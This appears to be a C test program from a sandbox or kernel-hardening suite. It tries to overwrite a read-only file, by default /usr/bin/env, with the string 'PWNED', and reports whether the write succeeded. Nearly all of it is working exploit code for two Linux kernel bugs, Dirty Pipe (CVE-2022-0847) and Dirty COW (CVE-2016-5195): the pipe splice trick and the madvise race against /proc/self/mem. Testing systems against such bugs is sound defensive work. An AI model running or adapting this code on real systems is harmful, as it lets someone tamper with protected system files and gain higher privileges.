/* K22: writes to a file that may only be read, through pages the kernel shares: a pipe whose
 * buffers are believed to be writable (CVE-2022-0847), and a private mapping that is written to
 * while it is given back (CVE-2016-5195). Argument: the file. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

static void *mapping;
static volatile int done;

static void fill_and_drain(int pipe_fds[2]) {
    static char block[4096];
    long size = fcntl(pipe_fds[1], F_GETPIPE_SZ);
    for (long i = 0; i < size; i += 4096)
        (void)!write(pipe_fds[1], block, sizeof block);
    for (long i = 0; i < size; i += 4096)
        (void)!read(pipe_fds[0], block, sizeof block);
}

static long dirty_pipe(const char *path) {
    int fds[2], file = open(path, O_RDONLY);
    if (file < 0 || pipe(fds) < 0)
        return -1;
    fill_and_drain(fds);
    loff_t start = 0;
    if (splice(file, &start, fds[1], NULL, 1, 0) < 1)
        return -1;
    return write(fds[1], "PWNED", 5);
}

static void *give_back(void *unused) {
    while (!done)
        madvise(mapping, 4096, MADV_DONTNEED);
    return unused;
}

static long dirty_cow(const char *path) {
    int file = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    mapping = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (mapping == MAP_FAILED || memory < 0)
        return -1;
    pthread_t thread;
    pthread_create(&thread, NULL, give_back, NULL);
    uint64_t end = clock_ns(CLOCK_MONOTONIC) + 300000000u;
    while (clock_ns(CLOCK_MONOTONIC) < end)
        (void)!pwrite(memory, "PWNED", 5, (off_t)(intptr_t)mapping);
    done = 1;
    pthread_join(thread, NULL);
    return 0;
}

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "/usr/bin/env";
    TRY("read_write", open(path, O_RDWR));
    TRY("shared_mapping",
        mmap(NULL, 4096, PROT_WRITE, MAP_SHARED, open(path, O_RDONLY), 0) == MAP_FAILED ? -1 : 0);
    TRY("dirty_pipe", dirty_pipe(path));
    TRY("dirty_cow", dirty_cow(path));
    char text[64] = "";
    int file = open(path, O_RDONLY);
    (void)!read(file, text, sizeof text - 1);
    say("pwned", strstr(text, "PWNED") ? "yes" : "no");
    return 0;
}
